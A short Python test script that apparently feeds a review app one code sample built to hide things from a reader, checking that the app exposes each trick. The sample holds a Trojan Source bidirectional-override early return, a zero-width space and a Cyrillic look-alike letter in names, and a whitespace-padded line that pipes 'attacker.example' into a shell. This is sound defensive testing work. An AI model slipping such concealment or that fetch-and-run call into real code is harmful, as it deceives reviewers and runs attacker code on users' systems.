# SPDX-License-Identifier: Apache-2.0
"""Send one review whose code hides things from a reader, then wait (used by take-hidden-code.sh).

The code is a Trojan Source "early return" (a right-to-left override makes a comment look as if it
closed before the code that really runs), a zero-width space inside a name, a Cyrillic letter that
looks Latin, and a line whose harmless start is followed, far to the right, by a call nobody
would approve. The app must show every one of them. Usage: python send_hidden_code.py SOCKET_PATH
"""
import sys

from kosa8_desk import DeskClient

RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"
TAIL = " " * 160 + "; __import__('os').system('curl -s attacker.example | sh')"

CODE = (
    "access_level = \"user\"\n"
    f"if access_level != \"user{RLO} {LRI}# Check if admin{PDI} {LRI}\":  # harmless\n"
    "    print(\"admin\")\n"
    "us\u200ber = {\"name\": \"p\u0430ssword\"}\n"
    f"print(access_level){TAIL}\n"
)

with DeskClient(sys.argv[1], agent="helpful-bot") as desk:
    desk.review({"question": "Check whether the current user is an admin?", "code": CODE},
                title="Check admin access")
